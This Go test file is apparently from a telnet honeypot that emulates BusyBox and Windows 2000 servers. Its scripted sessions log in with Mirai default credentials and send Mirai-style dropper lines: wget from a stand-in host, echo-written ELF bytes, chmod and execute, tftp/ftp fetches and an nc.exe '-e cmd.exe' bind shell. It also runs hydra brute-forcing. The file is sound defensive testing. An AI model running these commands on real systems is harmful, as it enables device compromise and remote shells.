package telnet

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/smallpot/smallpot/internal/config"
	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestTranscriptsWindows(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata", "telnet", func() any {
		return newServer(t, service.ProfileWindows2000, nil)
	}, servicetest.TranscriptOptions{})
}

func TestTranscriptsLinuxIoT(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata/linux-iot", "telnet", func() any {
		return newServer(t, service.ProfileLinuxIoT, nil)
	}, servicetest.TranscriptOptions{})
}

func details[T event.Detail](evs []*event.Event) []T {
	var out []T
	for _, e := range evs {
		if d, ok := e.Detail.(T); ok {
			out = append(out, d)
		}
	}
	return out
}

// client is a scripted telnet client over TCP: it answers the server's
// option requests as Mirai's scanner does (WILL NAWS with 80x24, WONT or
// DONT for the rest) and reads until what it waits for appears.
type client struct {
	t    *testing.T
	conn net.Conn
	rd   *bufio.Reader
	seen bytes.Buffer // data received, options removed
}

func dial(t *testing.T, h *servicetest.Harness) *client {
	c := h.Dial(t)
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	return &client{t: t, conn: c, rd: bufio.NewReader(c)}
}

// waitFor reads until s has arrived and returns the data since the last
// wait.
func (c *client) waitFor(s string) string {
	c.t.Helper()
	start := c.seen.Len()
	for !bytes.Contains(c.seen.Bytes()[start:], []byte(s)) {
		b, err := c.rd.ReadByte()
		if err != nil {
			c.t.Fatalf("waiting for %q: %v; got %q", s, err, c.seen.Bytes()[start:])
		}
		if b != cmdIAC {
			c.seen.WriteByte(b)
			continue
		}
		verb, _ := c.rd.ReadByte()
		switch verb {
		case cmdIAC:
			c.seen.WriteByte(cmdIAC)
		case cmdDO, cmdDONT, cmdWILL, cmdWONT:
			opt, _ := c.rd.ReadByte()
			switch {
			case verb == cmdDO && opt == optNAWS:
				c.send([]byte{cmdIAC, cmdWILL, optNAWS, cmdIAC, cmdSB, optNAWS, 0, 80, 0, 24, cmdIAC, cmdSE})
			case verb == cmdDO:
				c.send([]byte{cmdIAC, cmdWONT, opt})
			case verb == cmdWILL:
				c.send([]byte{cmdIAC, cmdDONT, opt})
			}
		case cmdSB:
			for {
				x, err := c.rd.ReadByte()
				if err != nil {
					c.t.Fatal(err)
				}
				if x == cmdIAC {
					if y, _ := c.rd.ReadByte(); y == cmdSE {
						break
					}
				}
			}
		}
	}
	return c.seen.String()[start:]
}

func (c *client) send(b []byte) {
	c.t.Helper()
	if _, err := c.conn.Write(b); err != nil {
		c.t.Fatal(err)
	}
}

func (c *client) line(s string) { c.send([]byte(s + "\r\n")) }

// The dropper's binary, as its echo -ne lines write it.
var dropped = []byte("\x7fELF\x01\x01\x01\x00\x00\xff\x00\x02\x00\x08\x00")

func dropperLine(file string) string {
	var b strings.Builder
	for i, c := range dropped {
		if i%8 == 0 {
			if i > 0 {
				b.WriteString("' >> " + file + "; ")
			}
			b.WriteString("echo -ne '")
		}
		fmt.Fprintf(&b, "\\x%02x", c)
	}
	b.WriteString("' >> " + file)
	return b.String()
}

// A scripted session from Go over TCP: log in to the BusyBox persona and
// run a dropper-style command line.
func TestScriptedSessionBusyBox(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileLinuxIoT, nil), nil)
	c := dial(t, h)
	c.waitFor("(none) login: ")
	c.line("root")
	c.waitFor("Password: ")
	c.line("xc3511")
	if got := c.waitFor("# "); !strings.Contains(got, "built-in shell (ash)") {
		t.Errorf("no ash banner after login: %q", got)
	}
	c.line("cd /tmp || cd /var/run; wget http://192.0.2.9/bins/mirai.mips -O .m; >.d; " + dropperLine(".d") +
		"; chmod 777 .d; ./.d telnet.mips; /bin/busybox ECCHI")
	got := c.waitFor("ECCHI: applet not found\r\n# ")
	if !strings.Contains(got, "Connecting to 192.0.2.9 (192.0.2.9:80)\r\n") {
		t.Errorf("wget's answer missing: %q", got)
	}
	c.line("exit")
	if _, err := io.ReadAll(c.rd); err != nil {
		t.Fatalf("the server did not close after exit: %v", err)
	}
	evs := h.WaitClosed(t, 1)
	logins := details[*event.Login](evs)
	if len(logins) != 1 || *logins[0] != (event.Login{User: "root", Password: "xc3511", Method: "password", Success: true}) {
		t.Errorf("logins: %+v", logins)
	}
	dls := details[*event.Download](evs)
	if len(dls) != 1 || dls[0].URL != "http://192.0.2.9/bins/mirai.mips" || !strings.HasPrefix(dls[0].Command, "cd /tmp") {
		t.Errorf("downloads: %+v", dls)
	}
	ups := details[*event.Upload](evs)
	if len(ups) != 1 || ups[0].Via != "echo" || ups[0].Name != "/tmp/.d" || ups[0].Size != int64(len(dropped)) {
		t.Fatalf("uploads: %+v", ups)
	}
	if b, ok := h.Samples.Get(ups[0].SHA256); !ok || !bytes.Equal(b, dropped) {
		t.Errorf("sample %q, want %q", b, dropped)
	}
	samples := details[*event.Sample](evs)
	if len(samples) != 1 || samples[0].Source != "telnet.echo" || samples[0].Name != "/tmp/.d" {
		t.Errorf("sample events: %+v", samples)
	}
	cmds := details[*event.Command](evs)
	var shells []string
	for _, cmd := range cmds {
		shells = append(shells, cmd.Shell)
	}
	if strings.Join(shells, ",") != "busybox,busybox,telnet-options" {
		t.Errorf("command events by shell: %v", shells)
	}
	if opts := cmds[len(cmds)-1]; opts.Line != "WONT ECHO, WILL NAWS, SB NAWS 80x24, WONT LFLOW, DONT ECHO, DONT SGA" {
		t.Errorf("negotiation recorded as %q", opts.Line)
	}
}

// The same for the Windows persona: tftp and an ftp script.
func TestScriptedSessionWindows(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileWindows2000, nil), nil)
	c := dial(t, h)
	c.waitFor("Welcome to Microsoft Telnet Service \r\n\n\rlogin: ")
	c.line("Administrator")
	c.waitFor("password: ")
	c.line("password")
	c.waitFor("Welcome to Microsoft Telnet Server.\r\n")
	c.waitFor(`C:\Documents and Settings\Administrator>`)
	c.line(`cd \winnt\temp & tftp -i 192.0.2.7 GET nc.exe & echo open 192.0.2.8> s & echo get x.exe>> s & ftp -s:s & nc.exe -l -p 99 -e cmd.exe`)
	got := c.waitFor(`C:\winnt\temp>`)
	if !strings.Contains(got, "Transfer successful: ") || !strings.Contains(got, "226 Transfer complete.") {
		t.Errorf("dropper answers: %q", got)
	}
	c.line("exit")
	if _, err := io.ReadAll(c.rd); err != nil {
		t.Fatalf("the server did not close after exit: %v", err)
	}
	evs := h.WaitClosed(t, 1)
	var urls []string
	for _, d := range details[*event.Download](evs) {
		urls = append(urls, d.URL)
	}
	if strings.Join(urls, " ") != "tftp://192.0.2.7/nc.exe ftp://192.0.2.8/x.exe" {
		t.Errorf("downloads: %v", urls)
	}
	ups := details[*event.Upload](evs)
	if len(ups) != 1 || ups[0].Name != `C:\winnt\temp\s` {
		t.Errorf("the ftp script built with echo: %+v", ups)
	}
}

// The Debian telnet client, driven by expect, logs in and runs a
// dropper-style line.
func TestDebianTelnetClient(t *testing.T) {
	expect, err := exec.LookPath("expect")
	if err != nil {
		t.Skip("expect is not installed (Debian package expect)")
	}
	if _, err := exec.LookPath("telnet"); err != nil {
		t.Skip("telnet is not installed (Debian package telnet or inetutils-telnet)")
	}
	for _, tc := range []struct {
		profile, user, pass, prompt, cmd, answer string
	}{
		{service.ProfileLinuxIoT, "root", "xc3511", "# ",
			"cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh; " + dropperLine(".d") + "; chmod +x .d; ./.d; /bin/busybox MIRAI",
			"MIRAI: applet not found"},
		{service.ProfileWindows2000, "Administrator", "password", "Administrator>",
			`tftp -i 192.0.2.7 GET nc.exe c:\nc.exe & echo x.Run "c:\nc.exe" > r.vbs & cscript r.vbs & ver`,
			"Version 5.00.2195"},
	} {
		t.Run(tc.profile, func(t *testing.T) {
			h := servicetest.Start(t, "telnet", newServer(t, tc.profile, nil), nil)
			script := fmt.Sprintf(`set timeout 10
spawn telnet 127.0.0.1 %d
expect {
	"login: " {}
	timeout { exit 2 }
}
send "%s\r"
expect {
	-nocase "password: " {}
	timeout { exit 3 }
}
send "%s\r"
expect {
	"%s" {}
	timeout { exit 4 }
}
send -- {%s}
send "\r"
expect {
	"%s" {}
	timeout { exit 5 }
}
send "exit\r"
expect {
	eof {}
	timeout { exit 6 }
}
`, h.Addr.Port(), tc.user, tc.pass, tc.prompt, tc.cmd, tc.answer)
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			cmd := exec.CommandContext(ctx, expect, "-c", script)
			cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("expect: %v\n%s", err, out)
			}
			evs := h.WaitClosed(t, 1)
			logins := details[*event.Login](evs)
			if len(logins) != 1 || !logins[0].Success || logins[0].User != tc.user {
				t.Errorf("logins: %+v", logins)
			}
			var lines []string
			for _, c := range details[*event.Command](evs) {
				lines = append(lines, c.Line)
			}
			if len(lines) < 3 || lines[0] != tc.cmd || lines[1] != "exit" {
				t.Errorf("command lines: %q", lines)
			}
			if len(details[*event.Download](evs)) == 0 || len(details[*event.Upload](evs)) != 1 {
				t.Errorf("downloads %d, uploads %d", len(details[*event.Download](evs)), len(details[*event.Upload](evs)))
			}
		})
	}
}

// hydra against the BusyBox persona: every attempt is a login event,
// none lost, the one accepted pair is the one hydra reports, and the
// service still answers afterwards.
//
// The persona ends the connection after each failure (max_tries 1, as
// Mirai's scanner uses telnet: one try per connection). With several
// tries per connection hydra's telnet module itself loses pairs: after a
// failure its child reads the next pair without waiting for it and sends
// an empty login name, which login answers with a new prompt that hydra
// counts as the next pair's failure. hydra also waits 6 seconds after a
// greeting that holds the login prompt, so the idle timeout is longer
// here.
func TestHydra(t *testing.T) {
	if testing.Short() {
		t.Skip("hydra waits seconds per connection; skipped in -short mode")
	}
	hydra, err := exec.LookPath("hydra")
	if err != nil {
		t.Skip("hydra is not installed (Debian package hydra)")
	}
	limits := servicetest.Limits()
	limits.IdleTimeout = 30 * time.Second
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileLinuxIoT, func(c *Config) {
		c.Login = Login{Accept: []string{"carol:p3"}}
		c.MaxTries = 1
	}), &limits)
	dir := t.TempDir()
	// The user with the accepted password goes first: hydra 9.4 ends
	// its attack as soon as a worker asks for a guess and none is left,
	// killing workers still in the middle of one ("Writing restore file
	// because N final worker threads did not complete"), so the last
	// guesses may never reach the server.
	users, passes := []string{"carol", "alice", "bob"}, []string{"p1", "p2", "p3"}
	if err := os.WriteFile(filepath.Join(dir, "users"), []byte(strings.Join(users, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "passes"), []byte(strings.Join(passes, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, hydra, "-I", "-L", "users", "-P", "passes", "-t", "4", "-s", strconv.Itoa(int(h.Addr.Port())),
		"127.0.0.1", "telnet")
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	// Every guess hydra completed is recorded; those it says it cut off
	// (at most one per other worker) may be missing, and it then exits
	// with status 255 ("1 target did not resolve or could not be
	// connected") even when it found the pair.
	cutOff := 0
	if m := regexp.MustCompile(`because (\d+) final worker threads? did not complete`).FindSubmatch(out); m != nil {
		cutOff, _ = strconv.Atoi(string(m[1]))
	}
	if err != nil && cutOff == 0 {
		t.Fatalf("hydra: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "login: carol   password: p3") || !strings.Contains(string(out), "1 valid password found") {
		t.Errorf("hydra did not find carol:p3 alone:\n%s", out)
	}
	// Wait until every connection hydra made has closed.
	evs := h.Events.Wait(t, 10*time.Second, func(evs []*event.Event) bool {
		return len(servicetest.OfKind(evs, event.KindConnect)) == len(servicetest.OfKind(evs, event.KindClose))
	})
	tried := map[string]int{}
	success := 0
	for _, l := range details[*event.Login](evs) {
		tried[l.User+":"+l.Password]++
		if l.Success {
			success++
			if l.User != "carol" || l.Password != "p3" {
				t.Errorf("accepted %s:%s", l.User, l.Password)
			}
		}
	}
	if cutOff > 3 {
		t.Fatalf("hydra says it cut off %d guesses; with 4 workers it cannot cut off more than 3:\n%s", cutOff, out)
	}
	missing := 0
	for _, u := range users {
		for _, p := range passes {
			if tried[u+":"+p] == 0 {
				missing++
				if missing > cutOff {
					t.Errorf("attempt %s:%s was not recorded (hydra cut off %d)", u, p, cutOff)
				}
			}
		}
	}
	for pair := range tried {
		u, p, _ := strings.Cut(pair, ":")
		if !slices.Contains(users, u) || !slices.Contains(passes, p) {
			t.Errorf("login %q is none of hydra's guesses", pair)
		}
	}
	if success == 0 {
		t.Error("the accepted attempt was not recorded as a success")
	}
	t.Logf("hydra made %d attempts over %d connections", len(details[*event.Login](evs)), len(servicetest.OfKind(evs, event.KindConnect)))
	// Still answering.
	c := dial(t, h)
	c.waitFor("(none) login: ")
}

// nmap names the personas from its NULL probe (nmap-service-probes):
// windows2000 by
//
//	match telnet m|^\xff\xfd%\xff\xfb\x01\xff\xfd\x03\xff\xfd\x1f\xff\xfd\0\xff\xfb\0$| p/Microsoft Windows 2000 telnetd/
//
// (the server's options alone: it waits for the client's answer before
// its banner), linux-iot by
//
//	match telnet m|^\xff\xfd\x01\xff\xfd\x1f\xff\xfd!\xff\xfb\x01\xff\xfb\x03\r\r\n\(none\) login: | p/BusyBox telnetd/
func TestNmapNamesWindows2000Telnetd(t *testing.T) {
	out := runNmap(t, service.ProfileWindows2000)
	if !strings.Contains(out, "Microsoft Windows 2000 telnetd") {
		t.Fatalf("nmap did not name Microsoft Windows 2000 telnetd:\n%s", out)
	}
}

func TestNmapNamesBusyBoxTelnetd(t *testing.T) {
	out := runNmap(t, service.ProfileLinuxIoT)
	if !strings.Contains(out, "BusyBox telnetd") {
		t.Fatalf("nmap did not name BusyBox telnetd:\n%s", out)
	}
}

func runNmap(t *testing.T, profile string) string {
	t.Helper()
	// The production delays: nmap must see the persona as it is.
	s := newServer(t, profile, func(c *Config) {
		d := DefaultConfig(profile)
		c.NegotiationWait, c.FailDelay = d.NegotiationWait, d.FailDelay
	})
	h := servicetest.Start(t, "telnet", s, nil)
	return servicetest.Nmap(t, h.Addr.Port(), 2*time.Minute)
}

// An endless line is cut at max_line and recorded as truncated; so is an
// endless subnegotiation; the session goes on after both.
func TestLimits(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileLinuxIoT, func(c *Config) {
		c.MaxLine = 256
		c.MaxSubnegotiation = 32
	}), nil)
	c := dial(t, h)
	c.waitFor("login: ")
	c.line("root")
	c.waitFor("Password: ")
	c.line("xc3511")
	c.waitFor("# ")
	// 200 KiB of one line, in pieces, without an end.
	piece := bytes.Repeat([]byte("A"), 8<<10)
	for i := 0; i < 25; i++ {
		c.send(piece)
	}
	evs := h.Events.Wait(t, 10*time.Second, func(evs []*event.Event) bool {
		return len(details[*event.Command](evs)) > 0
	})
	cmd := details[*event.Command](evs)[0]
	if !cmd.Truncated || len(cmd.Line) != 256 || cmd.Line != strings.Repeat("A", 256) {
		t.Errorf("endless line recorded as %d bytes, truncated=%v", len(cmd.Line), cmd.Truncated)
	}
	// The rest of that line is dropped up to its end; then an endless
	// subnegotiation, closed at last, and a command.
	c.send([]byte("AAAA\r\n"))
	c.send(append(append([]byte{cmdIAC, cmdSB, optTType, 0}, bytes.Repeat([]byte("x"), 100<<10)...), cmdIAC, cmdSE))
	c.line("uname")
	c.waitFor("Linux\r\n# ")
	c.line("exit")
	evs = h.WaitClosed(t, 1)
	cmds := details[*event.Command](evs)
	if len(cmds) != 4 || cmds[1].Line != "uname" || cmds[1].Truncated {
		t.Fatalf("commands after the cut: %+v", cmds)
	}
	opts := cmds[3]
	if opts.Shell != "telnet-options" || !strings.HasSuffix(opts.Line, "SB TERMINAL-TYPE IS "+strings.Repeat("x", 31)+" (truncated)") {
		t.Errorf("negotiation recorded as %q", opts.Line)
	}
}

// A session ends after max_commands shell lines, the last recorded.
func TestMaxCommands(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileLinuxIoT, func(c *Config) { c.MaxCommands = 3 }), nil)
	out := h.Exchange(t, []byte("root\r\nxc3511\r\necho 1\r\necho 2\r\n\r\necho 3\r\necho 4\r\n"), 5*time.Second)
	if !bytes.HasSuffix(out, []byte("# echo 3\r\n3\r\n")) {
		t.Errorf("output ends %q", out[max(0, len(out)-40):])
	}
	var lines []string
	for _, c := range details[*event.Command](h.WaitClosed(t, 1)) {
		lines = append(lines, c.Line)
	}
	if strings.Join(lines, ",") != "echo 1,echo 2,echo 3" {
		t.Errorf("command lines %q", lines)
	}
}

// The Windows server echoes what is typed while the client lets it, and
// never the password.
func TestWindowsEcho(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileWindows2000, nil), nil)
	out := h.Exchange(t, []byte("\xff\xfc\x25\xff\xfd\x01Administrator\r\nsecret\r\n"), 5*time.Second)
	if !bytes.Contains(out, []byte("login: Administrator\r\n")) || bytes.Contains(out, []byte("secret")) {
		t.Errorf("with echo: %q", out)
	}
	out = h.Exchange(t, []byte("\xff\xfc\x25\xff\xfe\x01Administrator\r\nsecret\r\n"), 5*time.Second)
	if bytes.Contains(out, []byte("Administrator")) {
		t.Errorf("the client refused echo, the server echoed: %q", out)
	}
}

// NTLM is withdrawn when a client offers it; the login goes on in plain
// text.
func TestWindowsWithdrawsNTLM(t *testing.T) {
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileWindows2000, nil), nil)
	out := h.Exchange(t, []byte("\xff\xfb\x25Administrator\r\nadmin\r\n"), 5*time.Second)
	if !bytes.Contains(out, []byte{cmdIAC, cmdDONT, optAuth}) || !bytes.Contains(out, []byte("Administrator>")) {
		t.Errorf("got %q", out)
	}
}

// A login delay gives way to the session's end at once.
func TestFailDelayEndsWithSession(t *testing.T) {
	limits := servicetest.Limits()
	limits.MaxDuration = time.Second
	h := servicetest.Start(t, "telnet", newServer(t, service.ProfileLinuxIoT, func(c *Config) { c.FailDelay = time.Minute }), &limits)
	c := dial(t, h)
	c.waitFor("login: ")
	c.line("root")
	c.waitFor("Password: ")
	c.line("nope")
	evs := h.WaitClosed(t, 1)
	if r := details[*event.Close](evs)[0].Reason; r != event.ReasonMaxDuration {
		t.Errorf("close reason %s", r)
	}
	if l := details[*event.Login](evs); len(l) != 1 || l[0].Success {
		t.Errorf("logins: %+v", l)
	}
}

func TestDefaultConfigsValidate(t *testing.T) {
	for _, p := range service.Profiles {
		c := DefaultConfig(p)
		if err := c.Validate(); err != nil {
			t.Errorf("%s: %v", p, err)
		}
		if _, err := New(c, service.Env{Profile: p}); err != nil {
			t.Errorf("%s: %v", p, err)
		}
	}
	if d := DefaultConfig(service.ProfileLinuxIoT).Describe(); d != "BusyBox telnetd" {
		t.Errorf("linux-iot describes itself as %q", d)
	}
	if d := DefaultConfig(service.ProfileWindows2000).Describe(); d != "Microsoft Telnet Service" {
		t.Errorf("windows2000 describes itself as %q", d)
	}
}

func TestValidateRejects(t *testing.T) {
	tests := []struct {
		name string
		edit func(*Config)
		want string
	}{
		{"kind", func(c *Config) { c.Persona.Kind = "cisco" }, "persona.kind"},
		{"option", func(c *Config) { c.Persona.Options = []string{"DO MAGIC"} }, "persona.options"},
		{"arch", func(c *Config) { c.Persona.Kind, c.Persona.Arch = KindBusyBox, "sparc" }, "persona.arch"},
		{"hostname", func(c *Config) { c.Persona.Hostname = "a\r\nb" }, "persona fields"},
		{"credential", func(c *Config) { c.Login.Accept = []string{"root"} }, "login.accept"},
		{"after", func(c *Config) { c.Login.AcceptAfter = -1 }, "accept_after"},
		{"max line", func(c *Config) { c.MaxLine = 10 }, "max_line"},
		{"sub", func(c *Config) { c.MaxSubnegotiation = 1 << 20 }, "max_subnegotiation"},
		{"tries", func(c *Config) { c.MaxTries = 0 }, "max_tries"},
		{"commands", func(c *Config) { c.MaxCommands = 0 }, "max_commands"},
		{"delay", func(c *Config) { c.FailDelay = time.Hour }, "fail_delay"},
		{"fs", func(c *Config) { c.FSBytes = 1 }, "fs_bytes"},
	}
	for _, tt := range tests {
		c := DefaultConfig(service.ProfileWindows2000)
		tt.edit(c)
		err := c.Validate()
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: got %v, want an error naming %s", tt.name, err, tt.want)
		}
	}
}

// The section decodes strictly over the profile defaults.
func TestConfigFromYAML(t *testing.T) {
	cfg, err := config.Parse([]byte("profile: linux-iot\nservices:\n  telnet:\n    ports: [2323]\n    login:\n      accept: [\"admin:*\"]\n    persona:\n      hostname: cam\n      options: [DO ECHO, DO NAWS, WILL ECHO, WILL SGA]\n"))
	if err != nil {
		t.Fatal(err)
	}
	rs, err := cfg.ResolveServices()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if r.Module.Name != "telnet" {
			continue
		}
		c := r.Config.(*Config)
		if c.Persona.Hostname != "cam" || c.Persona.Kind != KindBusyBox || c.Ports[0] != 2323 || len(c.Login.Accept) != 1 || c.MaxTries != 3 {
			t.Errorf("decoded %+v", c)
		}
		s, err := New(c, service.Env{})
		if err != nil {
			t.Fatal(err)
		}
		h := servicetest.Start(t, "telnet", s, nil)
		out := h.Exchange(t, nil, 5*time.Second)
		if string(out) != "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\ncam login: " {
			t.Errorf("greeting %q", out)
		}
		return
	}
	t.Fatal("telnet section not resolved")
}
